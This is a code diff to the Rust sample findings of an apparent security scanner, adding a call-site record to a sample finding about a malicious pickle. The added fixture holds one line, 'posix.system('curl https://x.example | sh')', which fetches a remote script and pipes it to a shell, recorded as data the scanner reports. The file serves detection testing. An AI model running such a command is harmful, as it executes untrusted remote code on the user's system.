@@ -6,7 +6,7 @@ use std::path::PathBuf;
 use std::sync::Arc;
 
 use palisade_policy::{
-    Finding, InputError, Location, ObjectRef, Severity, Vulnerability, VulnerablePackage,
+    CallSite, Finding, InputError, Location, ObjectRef, Severity, Vulnerability, VulnerablePackage,
 };
 use palisade_report::{
     EXIT_CLEAN, EXIT_ERROR, EXIT_FINDINGS, Format, JSON_SCHEMA, RenderOptions, ScanReport,
@@ -260,6 +260,10 @@ fn sample_findings() -> Vec<Finding> {
         },
     );
     pickle.snippet = None;
+    pickle.call = Some(Box::new(CallSite {
+        callable: Some("posix.system".to_owned()),
+        call_chain: Some("posix.system('curl https://x.example | sh')".to_owned()),
+    }));
 
     let mut info = Finding::new(
         &LIVENESS,
